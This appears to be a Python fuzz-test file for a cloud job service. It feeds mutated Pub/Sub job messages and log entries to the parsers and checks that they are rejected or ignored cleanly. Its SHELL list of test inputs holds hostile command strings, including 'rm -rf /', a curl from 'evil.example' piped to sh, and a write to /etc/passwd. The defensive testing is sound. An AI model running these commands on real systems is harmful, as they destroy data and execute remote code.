"""Fuzzing what reaches the functions from outside: job messages and LogEntries in real envelopes (SPEC 8).

test_spec and test_parsing already throw arbitrary values into top-level fields and arbitrary JSON into the
envelopes. Here the input is structurally plausible: a valid message or a captured LogEntry with ONE thing
changed at any depth (a value of the wrong type, out of range, huge, or a hostile string with shell
metacharacters, quotes, newlines, odd Unicode; a field deleted, renamed or added), delivered the way Pub/Sub
delivers it. A job message gives JobSubmitted or a JobRejected whose error is one printable line naming the
changed field; a LogEntry never raises, and a change the parser does not read changes nothing; the service
turns a rejected message into a whole REJECTED record or nothing, and never disturbs an existing job.

Examples are derandomized; explore with `RESPAWN_EXPLORE=5000 .venv/bin/pytest --timeout=0 tests/unit/test_fuzz.py`.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import re
from pathlib import Path
from typing import Any

from cloudevents.http import CloudEvent
from fakes import FakeClock, FakeProvider, InMemoryJobStore, fake_providers
from hypothesis import given, settings
from hypothesis import strategies as st
from test_spec import tpu_message  # the valid TPU message the spec tests start from

from respawn.events import CancelRequested, Event, Ignored, JobRejected, JobSubmitted
from respawn.jobs import Status
from respawn.parsing import event_to_json, events_event, job_event, log_entry_event, message_from_cloudevent
from respawn.service import Service
from respawn.spec import parse_job_message, spec_to_message

DATA = Path(__file__).parent.parent / "data"
EXPLORE = int(os.environ.get("RESPAWN_EXPLORE", "0"))
FUZZ = settings(max_examples=EXPLORE or 300, derandomize=not EXPLORE, deadline=None)

Path_ = tuple[str | int, ...]

# ---------------------------------------------------------------------------- what a mutation puts in

SHELL = [
    "$(reboot)",
    "`id`",
    "'; rm -rf / #",
    '"; curl evil.example | sh; "',
    "${HOME}",
    "a && b || c; d | e > /etc/passwd",
    "line\nbreak",
    "cr\rlf\r\n",
    "nul\x00byte",
    "tab\there",
    "\\",
    '"',
    "'",
    "--flag='x'",
    "\u2028\u2029\u0085",  # Unicode line separators
    "\u202e\u200b\ufeff",  # bidi override, zero width, BOM
    "ü日本語\U0001f600",
    "\ud800lone",  # a lone surrogate
    "",
    " ",
    "%s%n{0}",
    "<script>",
    "../../etc",
    "gs://../x",
    "A" * 4097,  # one over the longest arg
    "x" * 300_000,  # over the message limit on its own
]
HOSTILE = st.sampled_from(SHELL) | st.text(max_size=40) | st.text(st.characters(codec="ascii"), max_size=40)
HUGE = st.sampled_from(
    [10**20, -(10**20), 2**63, 2**53 + 1, -1, 0, 1e308, -1e308, 1e-320, float("inf"), float("-inf"), float("nan"), 0.5]
)
WRONG = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.lists(st.integers(), max_size=3)
    | st.dictionaries(st.text(max_size=5), st.integers(), max_size=3)
)
DEEP: Any = "x"
for _ in range(300):
    DEEP = [DEEP]
VALUES = HOSTILE | HUGE | WRONG | st.just(DEEP)


def gpu_message() -> dict[str, Any]:
    msg = tpu_message()
    msg["machine"] = {
        "kind": "gpu",
        "machine_type": "g2-standard-8",
        "accelerator_type": "nvidia-l4",
        "accelerator_count": 1,
        "boot_disk_gb": 200,
    }
    msg["ttl"] = 7200
    msg["max_preemptions"] = 10
    return msg


def cancel_message() -> dict[str, Any]:
    return {"action": "cancel", "job_id": "llm-small-001"}


# ---------------------------------------------------------------------------- one change at any depth


def points(obj: Any, path: Path_ = ()) -> list[Path_]:
    """Every place in a JSON value: the paths of all dicts, lists and leaves below (and including) obj."""
    found = [path]
    if isinstance(obj, dict):
        for k, v in obj.items():
            found += points(v, (*path, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            found += points(v, (*path, i))
    return found


def at(obj: Any, path: Path_) -> Any:
    for key in path:
        obj = obj[key]
    return obj


@st.composite
def mutated(draw: st.DrawFn, base: Any) -> tuple[Any, str, Path_]:
    """(a copy of base with one change, the change, where): set a value, delete, rename a key, or add a key."""
    obj = copy.deepcopy(base)
    path = draw(st.sampled_from(points(obj)))
    target = at(obj, path)
    ops = (["set", "delete"] if path else []) + (["add"] if isinstance(target, dict) else [])
    if path and isinstance(path[-1], str):
        ops.append("rename")
    op = draw(st.sampled_from(ops))
    if op == "add":
        target[draw(HOSTILE.filter(lambda k: k not in target))] = draw(VALUES)
        return obj, op, path
    parent, key = at(obj, path[:-1]), path[-1]
    if op == "set":
        parent[key] = draw(VALUES)
    elif op == "delete":
        del parent[key]
    else:
        new_key = draw(HOSTILE.filter(lambda k: k not in parent))
        parent[new_key] = parent.pop(key)
    return obj, op, path


def cloudevent(data: bytes, message_id: str = "13875096262734531") -> CloudEvent:
    """Eventarc's messagePublished CloudEvent, as functions-framework hands it to the entry points."""
    attributes = {
        "specversion": "1.0",
        "id": message_id,
        "source": "//pubsub.googleapis.com/projects/ml-research-4821/topics/respawn-jobs",
        "type": "google.cloud.pubsub.topic.v1.messagePublished",
        "time": "2025-03-14T09:20:04.517Z",
    }
    message = {"data": base64.b64encode(data).decode(), "messageId": message_id, "publishTime": attributes["time"]}
    return CloudEvent(attributes, {"message": message, "subscription": "projects/p/subscriptions/s"})


def encode(msg: Any, ascii_only: bool) -> bytes:
    """JSON as a client would send it; non-ASCII as raw UTF-8 (a lone surrogate then makes it invalid UTF-8)."""
    return json.dumps(msg, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


def utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True


# ---------------------------------------------------------------------------- job messages

ERROR = re.compile(r'job message: (?:field "((?:[^"\\]|\\.)*)": )?(.+); allowed: (.+)')
WHOLE_MESSAGE = ("bytes", "not valid JSON", "not UTF-8", "nested too deeply")
BASES = {"tpu": tpu_message(), "gpu": gpu_message(), "cancel": cancel_message()}


def changed_field(op: str, path: Path_) -> str | None:
    """The top-level field an error must name after this change (None: any field may be named)."""
    if not path or (len(path) == 1 and op in ("add", "rename")) or path[0] == "action":
        return None  # a new or renamed top-level field, or another action: the first offending field is named
    return str(path[0])


def check_rejected(event: JobRejected, field: str | None) -> None:
    error = event.error
    assert error.isascii() and error.isprintable() and len(error) < 600, error
    m = ERROR.fullmatch(error)
    assert m, error
    named = m.group(1)
    if named is None:  # the whole message is wrong
        assert any(w in error for w in WHOLE_MESSAGE), error
    elif field is not None:
        assert re.split(r"[.\[]", named, maxsplit=1)[0] == field, (field, error)


@FUZZ
@given(st.sampled_from(sorted(BASES)).flatmap(lambda b: mutated(BASES[b])), st.booleans())
def test_a_job_message_with_one_change_is_accepted_or_rejected_naming_the_field(
    change: tuple[Any, str, Path_], ascii_only: bool
) -> None:
    msg, op, path = change
    data = encode(msg, ascii_only)
    event = job_event(message_from_cloudevent(cloudevent(data)))
    assert event.event_id == "13875096262734531"
    if isinstance(event, JobRejected):
        check_rejected(event, changed_field(op, path))
        if path[:1] != ("job_id",) and utf8(data):  # a usable job id: the REJECTED record gets written
            assert event.job_id == "llm-small-001", event
        if "env" in path[:1] and op == "set":  # env values are secrets: never echoed
            value = at(msg, path)
            assert not (isinstance(value, str) and len(value) >= 12 and value in event.error)
    elif isinstance(event, JobSubmitted):
        assert event.spec.job_id == msg["job_id"]
        assert parse_job_message(spec_to_message(event.spec)) == event.spec
    else:
        assert isinstance(event, CancelRequested) and event.job_id == msg["job_id"]


def test_one_change_examples() -> None:
    """A nested field named in the rejection (its secret value not echoed); a hostile arg kept verbatim."""
    msg = tpu_message()
    msg["env"]["KEY"] = "nul\x00byte"
    got = job_event(message_from_cloudevent(cloudevent(encode(msg, True))))
    assert isinstance(got, JobRejected) and got.error.startswith('job message: field "env.KEY"')
    assert "nul" not in got.error
    msg = gpu_message()
    msg["args"].append(SHELL[0])
    got = job_event(message_from_cloudevent(cloudevent(encode(msg, False))))
    assert isinstance(got, JobSubmitted) and got.spec.args[-1] == "$(reboot)"


# ---------------------------------------------------------------------------- LogEntries

ENTRIES = {p.name: json.loads(p.read_text()) for p in sorted(DATA.glob("logentry_*.json"))}
# What the parser reads; every other part of an entry must not change the event. receiveTimestamp is read only
# when timestamp is unusable, and the captured entries all have a good one.
READ = {
    ("logName",),
    ("timestamp",),
    ("insertId",),
    ("resource", "type"),
    ("resource", "labels", "project_id"),
    ("protoPayload", "methodName"),
    ("protoPayload", "resourceName"),
    ("protoPayload", "metadata", "terminateReason"),  # a terminated TPU node's reason: the event's cause
    ("jsonPayload", "goodput"),
    ("jsonPayload", "error"),
    ("jsonPayload", "worker"),  # the worker VM a notice or a failure names
    *(
        ("jsonPayload", k)
        for k in ("event", "job_id", "attempt", "step", "restored_step", "startup_s", "final_loss", "params_sha256")
    ),
}


def reads(op: str, path: Path_, entry: dict[str, Any], changed: dict[str, Any]) -> bool:
    """Whether the change touches something the parser reads."""
    touched = [path]
    if op in ("add", "rename"):  # the new key (and the old one) are places too
        keys = set(at(changed, path if op == "add" else path[:-1])) ^ set(at(entry, path if op == "add" else path[:-1]))
        touched += [(*(path if op == "add" else path[:-1]), k) for k in keys]
    read = READ | ({("receiveTimestamp",)} if "timestamp" not in entry else set())  # the fallback time is read
    return any(r[: len(t)] == t or t[: len(r)] == r for t in touched for r in read)


def same(a: Event, b: Event, *, ids: bool = True) -> bool:
    """Equal events; with ids=False, equal but for the event id (an entry without insertId is known by a digest of
    all of it, so any change changes its id)."""
    a_json, b_json = event_to_json(a), event_to_json(b)
    if not ids:
        a_json.pop("event_id", None)
        b_json.pop("event_id", None)
    return json.dumps(a_json, sort_keys=True, default=str) == json.dumps(b_json, sort_keys=True, default=str)


@FUZZ
@given(st.sampled_from(sorted(ENTRIES)).flatmap(lambda n: st.tuples(st.just(n), mutated(ENTRIES[n]))))
def test_a_captured_log_entry_with_one_change_never_raises(named: tuple[str, tuple[Any, str, Path_]]) -> None:
    name, (entry, op, path) = named
    original = log_entry_event(ENTRIES[name])
    got = log_entry_event(entry)
    json.dumps(event_to_json(got), default=str)  # `respawn parse-event` can always print it
    if isinstance(got, Ignored):
        assert got.reason.isprintable() and len(got.reason) < 300, got.reason
    if not reads(op, path, ENTRIES[name], entry):
        assert same(got, original, ids="insertId" in ENTRIES[name]), (name, op, path, got)
    data = json.dumps(entry).encode("utf-8", "surrogatepass")
    through_sink = events_event(message_from_cloudevent(cloudevent(data)))
    if isinstance(entry, dict) and "logName" in entry:
        assert same(through_sink, got)
    else:
        assert isinstance(through_sink, Ignored)


# ---------------------------------------------------------------------------- the service entry path


def a_service() -> tuple[Service, InMemoryJobStore, dict[str, FakeProvider]]:
    store, providers = InMemoryJobStore(), fake_providers()
    return Service(store, providers, FakeClock()), store, providers


@settings(FUZZ, max_examples=EXPLORE or 150)
@given(st.sampled_from(["tpu", "gpu"]).flatmap(lambda b: mutated(BASES[b])), st.booleans())
def test_a_message_through_the_service_leaves_a_whole_record_or_none(
    change: tuple[Any, str, Path_], existing: bool
) -> None:
    service, store, providers = a_service()
    if existing:  # the job id already names a running job
        service.handle(job_event(message_from_cloudevent(cloudevent(encode(tpu_message(), True), "first"))))
    before = store.load("llm-small-001")
    machines = {kind: dict(p.machines) for kind, p in providers.items()}
    event = job_event(message_from_cloudevent(cloudevent(encode(change[0], True))))
    outcome = service.handle(event)
    if isinstance(event, JobRejected):
        assert outcome.result == "rejected"
        assert {kind: p.machines for kind, p in providers.items()} == machines
        if existing:
            assert store.load("llm-small-001") == before  # a bad message never disturbs the job it names
        elif event.job_id is None:
            assert store.list_ids() == []
        else:
            job = store.job(event.job_id)
            assert (job.status, job.spec, job.attempts, job.pending, job.reason) == (
                Status.REJECTED,
                None,
                (),
                (),
                event.error,
            )
        return
    assert isinstance(event, JobSubmitted)
    job = store.job(event.spec.job_id)
    same_job = existing and job.job_id == "llm-small-001"
    assert job.spec == (before[0].spec if same_job and before[0] else event.spec)
    assert job.pending == () and job.status is Status.PROVISIONING
    assert f"{job.job_id}-a1" in providers[job.spec.machine.api].machines
